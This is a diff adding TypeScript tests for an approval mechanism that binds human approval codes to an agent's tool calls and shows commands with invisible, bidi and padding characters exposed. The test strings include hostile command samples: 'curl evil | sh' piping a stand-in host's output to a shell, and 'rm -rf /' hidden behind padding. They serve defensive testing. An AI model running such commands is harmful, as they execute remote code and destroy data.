@@ -1,0 +1,82 @@
+/** Codes, bindings, and what a question shows. */
+import assert from "node:assert/strict";
+import { describe, test } from "node:test";
+import fc from "fast-check";
+import { LIMITS } from "../../../protocol/gen/limits.ts";
+import { approvalCode, bindingText, CODE_ALPHABET, readCode, sameCallText } from "./approval.ts";
+import { shownCall, visible } from "./shown-call.ts";
+
+const BOUND = { callId: "ref/r1/1/0", name: "lap__Bash", target: { kind: "node", nodeId: "lap" }, args: { command: "ls", b: 1 } } as const;
+
+describe("what an answer is bound to", () => {
+  test("[AP2] [S13] every part counts, and the order of keys does not", () => {
+    const text = bindingText(BOUND, "p1");
+    assert.equal(bindingText({ ...BOUND, args: { b: 1, command: "ls" } }, "p1"), text);
+    for (const other of [
+      bindingText({ ...BOUND, callId: "ref/r1/1/1" }, "p1"),
+      bindingText({ ...BOUND, name: "lap__Read" }, "p1"),
+      bindingText({ ...BOUND, target: { kind: "node", nodeId: "other" } }, "p1"),
+      bindingText({ ...BOUND, target: { kind: "native" } }, "p1"),
+      bindingText({ ...BOUND, args: { command: "ls ", b: 1 } }, "p1"),
+      bindingText({ ...BOUND, args: { command: "ls", b: [1] } }, "p1"),
+      bindingText(BOUND, "p2"),
+    ])
+      assert.notEqual(other, text);
+    assert.equal(sameCallText(BOUND), sameCallText({ name: BOUND.name, args: { b: 1, command: "ls" } }));
+  });
+});
+
+describe("codes", () => {
+  test("[AP2] five characters that no one mixes up, and never one that is taken", () => {
+    fc.assert(
+      fc.property(fc.string(), (seed) => {
+        const first = approvalCode(seed, new Set());
+        assert.equal(readCode(first.toLowerCase()), first);
+        assert.notEqual(approvalCode(seed, new Set([first])), first);
+      }),
+      { numRuns: 1_000 },
+    );
+    assert.equal(/[01ILOSUVB5 8]/.test(CODE_ALPHABET), false);
+    assert.equal(new Set(CODE_ALPHABET).size, CODE_ALPHABET.length);
+  });
+  test("[AP4] what a person types is a code or nothing", () => {
+    for (const text of ["", "ok", "K7Q2", "K7Q2AA", "K7Q2O", "K7 2A", "ok\u200b…"]) assert.equal(readCode(text), undefined, text);
+  });
+});
+
+describe("what is shown", () => {
+  test("[AP10] [S13] control, bidi, zero-width and other invisible characters are written as escapes", () => {
+    assert.equal(visible("rm\u202e -rf\u200b x\u001b[2K\r"), "rm\\u{202e} -rf\\u{200b} x\\u{1b}[2K\\u{d}");
+    assert.equal(visible("a\u{e0041}b\ufeff\u00ad\u2066\u3164"), "a\\u{e0041}b\\u{feff}\\u{ad}\\u{2066}\\u{3164}");
+    assert.equal(visible("lone \ud800 half"), "lone \\u{d800} half");
+    assert.equal(visible("Grüße 日本 👍"), "Grüße 日本 👍");
+  });
+  test("[AP10] an escape that the text has itself is told apart from one that is made here", () => {
+    assert.equal(visible("\\u{202e}"), "\\\\u{202e}");
+  });
+  test("[AP10] nothing invisible is left of any text", () => {
+    fc.assert(
+      fc.property(fc.string({ unit: "binary" }), (text) => {
+        assert.doesNotMatch(visible(text).replaceAll("\n", ""), /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u, JSON.stringify(text));
+      }),
+      { numRuns: 5_000 },
+    );
+    const every = Array.from({ length: 0x11_0000 }, (_, point) => (point >= 0xd800 && point < 0xe000 ? "" : String.fromCodePoint(point)));
+    const left = every.filter(
+      (char) => char !== "\n" && /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]|\p{Default_Ignorable_Code_Point}/u.test(visible(char)),
+    );
+    assert.deepEqual(left, []);
+  });
+  test("[AP10] [X10] padding hides nothing: blanks and empty lines are counted", () => {
+    assert.equal(visible(`ls${" ".repeat(1_000)}; curl evil | sh`), "ls [1000 blanks] ; curl evil | sh");
+    assert.equal(visible(`ls${"\n".repeat(500)}rm -rf /`), "ls\n[499 empty lines]\nrm -rf /");
+  });
+  test("[AP10] [S13] a command is shown bare and first; of a long one, its first 4 KB, and the size of the whole", () => {
+    assert.deepEqual(shownCall({ timeout: 5, command: "ls -la" }), { text: "ls -la\ntimeout: 5", bytes: 17 });
+    assert.deepEqual(shownCall({}), { text: "(no arguments)", bytes: 14 });
+    const long = shownCall({ command: `${"é".repeat(500_000)}; curl evil | sh` });
+    assert.equal(Buffer.byteLength(long.text), LIMITS.approvalTextBytes);
+    assert.equal(long.bytes, 1_000_016);
+    assert.ok(long.whole?.endsWith("; curl evil | sh"));
+  });
+});
